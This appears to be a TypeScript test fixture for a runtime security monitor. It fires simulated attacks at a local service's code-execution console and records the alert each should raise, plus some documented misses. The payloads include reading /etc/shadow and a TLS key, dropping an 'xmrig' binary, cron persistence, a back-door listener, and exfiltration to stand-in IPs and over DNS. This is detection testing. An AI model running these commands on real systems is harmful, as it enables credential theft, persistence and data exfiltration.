import type { Box } from '../support/box.ts';
import type { Attack } from '../support/service.ts';

const by = /^\/usr\/bin\/node$/;
/** Code that the application runs for whoever sends it. */
const run = (box: Box, code: string): Promise<string> =>
  box.host(['node', '../support/post.mjs', 'https://127.0.0.1:8443/console', code]);
const drop = (from: string, to: string): string =>
  `const fs = require('fs'); fs.writeFileSync('${to}', Buffer.concat([fs.readFileSync('${from}'), Buffer.from('x')]), { mode: 0o755 });`;
const connect = (address: string, port: number): string =>
  `new Promise((done) => { const s = require('net').connect({ host: '${address}', port: ${port}, timeout: 500 }); s.on('timeout', () => s.destroy()); s.on('error', () => {}); s.on('close', done); })`;

export const attacks: readonly Attack[] = [
  {
    name: 'a shell',
    kind: 'loud',
    act: (box) => run(box, "require('child_process').execSync('id')"),
    told: /^process-not-in-profile \/usr\/bin\/dash \/bin\/sh -c id/,
    by,
  },
  {
    name: 'a binary is dropped and run',
    kind: 'loud',
    act: (box) => run(box, `${drop('/bin/true', '/tmp/xmrig')} require('child_process').spawnSync('/tmp/xmrig')`),
    told: /^process-not-in-profile \/tmp\/xmrig/,
    by,
  },
  {
    name: 'a native module is dropped and loaded',
    kind: 'loud',
    act: (box) =>
      run(box, `${drop('/usr/lib/x86_64-linux-gnu/libz.so.1', '/data/addon.node')} require('/data/addon.node')`),
    told: /^file-executed \/data\/addon\.node/,
    by,
  },
  {
    name: 'code is dropped and required',
    kind: 'loud',
    act: (box) => run(box, "require('fs').writeFileSync('/tmp/stage2.js', '1'); require('/tmp/stage2.js')"),
    told: /^file-\S+ \/tmp\/stage2\.js/,
    by,
  },
  {
    name: 'code is put beside the application',
    kind: 'loud',
    act: (box) => run(box, "require('fs').writeFileSync('/app/lib/late.cjs', '1'); require('/app/lib/late.cjs')"),
    told: /^file-\S+ \/app\/lib\/late\.cjs/,
    by,
  },
  {
    name: 'the application’s code is changed',
    kind: 'loud',
    act: (box) => run(box, "require('fs').appendFileSync('/app/lib/cache.cjs', '//')"),
    told: /^file-written \/app\/lib\/cache\.cjs/,
    by,
  },
  {
    name: 'another program of the image',
    kind: 'loud',
    act: (box) => run(box, "require('child_process').execFileSync('/usr/bin/redis-cli', ['--version'])"),
    told: /^process-not-in-profile \/usr\/bin\/redis-cli/,
    by,
  },
  {
    name: 'it calls home',
    kind: 'loud',
    act: (box) => run(box, connect('198.51.100.7', 443)),
    told: /^connection-\S+ tcp 198\.51\.100\.7:443/,
    by,
  },
  {
    name: 'it calls home on a port that is known',
    kind: 'loud',
    act: (box) => run(box, connect('198.51.100.8', 9000)),
    told: /^connection-other-peer tcp 198\.51\.100\.8:9000/,
    by,
  },
  {
    name: 'accounts are read',
    kind: 'loud',
    act: (box) => run(box, "require('fs').readFileSync('/etc/shadow')"),
    told: /^file-not-in-profile \/etc\/shadow/,
    by,
  },
  {
    name: 'a cron job is written',
    kind: 'loud',
    act: (box) => run(box, "require('fs').writeFileSync('/etc/cron.d/job', 'x')"),
    told: /^file-not-in-profile \/etc\/cron\.d\/job/,
    by,
  },
  {
    name: 'a back door listens',
    kind: 'loud',
    act: (box) =>
      run(
        box,
        "new Promise((done) => { global.back = require('net').createServer().listen({ port: 31337, exclusive: true }, done); })",
      ),
    told: /^listen-not-in-profile tcp port 31337/,
    by,
  },
  {
    name: 'data leaves by DNS',
    kind: 'quiet',
    act: (box) =>
      run(
        box,
        "(async () => { const r = new (require('dns').promises.Resolver)({ timeout: 300, tries: 1 }); r.setServers(['198.51.100.53']); await r.resolveTxt('secret.tunnel.example').catch(() => {}); })()",
      ),
    told: /^connection-\S+ udp 198\.51\.100\.53:53/,
    by,
  },
  {
    name: 'a program of the profile reads something else',
    kind: 'quiet',
    act: (box) => run(box, "require('child_process').execFileSync('gzip', ['-kc', '/etc/hostname'])"),
    told: /^process-other-arguments \/usr\/bin\/gzip/,
    by,
  },
  {
    name: 'the interpreter is started again, with code',
    kind: 'quiet',
    act: (box) => run(box, "require('child_process').execFileSync(process.execPath, ['-e', '0'])"),
    told: /^process-other-arguments \/usr\/bin\/node/,
    by,
  },
  {
    name: 'another port of a peer that is known',
    kind: 'quiet',
    act: (box) => run(box, connect('10.77.0.5', 22)),
    told: /^connection-\S+ tcp 10\.77\.0\.5:22/,
    by,
  },
  {
    name: 'data leaves through a peer that is known',
    kind: 'quiet',
    act: (box) => run(box, connect('10.77.0.5', 9000)),
    told: /10\.77\.0\.5:9000/,
    by,
    missed: 'the peer is the profile’s; what is said to it is not judged',
  },
  {
    name: 'a file of the system is read',
    kind: 'quiet',
    act: (box) => run(box, "require('fs').readFileSync('/etc/debian_version')"),
    told: /^file-not-in-profile \/etc\/debian_version/,
    by,
  },
  {
    name: 'the environment is sent',
    kind: 'quiet',
    act: (box) => run(box, 'JSON.stringify(process.env)'),
    told: /^\S+ \S*environ/,
    by,
    missed: 'a process reads its own memory',
  },
  {
    name: 'the application’s source is read',
    kind: 'quiet',
    act: (box) => run(box, "require('fs').readFileSync('/app/main.cjs')"),
    told: /^\S+ \S*main\.cjs/,
    by,
    missed: 'the interpreter reads it itself',
  },
  {
    name: 'the key is read',
    kind: 'quiet',
    act: (box) => run(box, "require('fs').readFileSync('/tls/tls.key')"),
    told: /^\S+ \S*tls\.key/,
    by,
    missed: 'the service reads its key itself',
  },
  {
    name: 'loot is collected among the data',
    kind: 'quiet',
    act: (box) => run(box, "require('fs').writeFileSync('/data/loot', 'x')"),
    told: /^\S+ \S*loot/,
    by,
    missed: 'it writes its data there, under any name',
  },
  {
    name: 'code in a thread',
    kind: 'quiet',
    act: (box) =>
      run(box, "new Promise((done) => new (require('worker_threads').Worker)('0', { eval: true }).on('exit', done))"),
    told: /^\S+ \S*worker/,
    by,
    missed: 'an interpreter that runs text opens nothing, and the service uses threads',
  },
];
